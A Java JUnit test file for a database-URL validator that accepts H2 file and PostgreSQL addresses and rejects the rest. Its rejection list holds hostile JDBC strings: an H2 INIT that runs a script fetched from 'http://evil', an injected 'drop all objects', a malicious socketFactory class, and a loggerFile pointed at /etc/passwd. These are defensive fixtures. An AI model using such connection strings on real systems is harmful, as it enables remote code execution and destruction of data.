package dev.millwright.server.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcAddressTest {
    private static JdbcAddress of(String url) {
        return JdbcAddress.of(DatabaseSettings.server(Path.of("/data"), url, "", ""));
    }

    @Test
    void takesTheDataDirectoryWithoutAnAddress() {
        assertThat(of("").url()).startsWith("jdbc:h2:async:/data/millwright;");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:/srv/db",
                "jdbc:h2:/srv/db",
                "jdbc:h2:./db;CACHE_SIZE=1000",
                "jdbc:h2:/srv/db;WRITE_DELAY=0",
                "jdbc:postgresql://db/mw",
                "jdbc:postgresql://a:1,b:2/mw?sslmode=verify-full&targetServerType=primary"
            })
    void takesFilesAndPostgresql(String url) {
        assertThat(of(url).url()).contains(url.startsWith("jdbc:h2") ? "WRITE_DELAY=0" : "mw");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x",
                "jdbc:h2:tcp://host/x",
                "jdbc:h2:zip:x.zip!/db",
                "jdbc:h2:nio:x",
                "jdbc:h2:async:/x",
                "jdbc:h2:",
                "jdbc:h2:file:nio:/x",
                "jdbc:h2:/x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:/x;init=select 1\\;drop all objects",
                "jdbc:h2:/x;AUTO_SERVER=TRUE",
                "jdbc:h2:/x;WRITE_DELAY=500",
                "jdbc:h2:/x;CACHE_SIZE=1\\;2",
                "jdbc:h2:/x\\;INIT=1",
                "jdbc:postgresql://db/mw?socketFactory=org.evil.Factory",
                "jdbc:postgresql://db/mw?options=-c%20synchronous_commit=off",
                "jdbc:postgresql://db/mw?loggerFile=/etc/passwd",
                "jdbc:postgresql://db/mw?user=a&password=b",
                "jdbc:mysql://db/mw",
                "http://db",
                "postgresql://db/mw"
            })
    void refusesEverythingElse(String url) {
        assertThatThrownBy(() -> of(url))
                .isInstanceOf(StoreException.class)
                .hasMessageStartingWith("database.url");
    }

    @Test
    void r20RefusesADelayOfWritesByName() {
        assertThatThrownBy(() -> of("jdbc:h2:/x;write_delay=500"))
                .hasMessageContaining("WRITE_DELAY=500 would lose accepted work");
    }

    @Test
    void neverPrintsThePassword() {
        assertThat(DatabaseSettings.server(Path.of("/d"), "jdbc:postgresql://h/d", "u", "geheim"))
                .asString()
                .doesNotContain("geheim");
    }
}
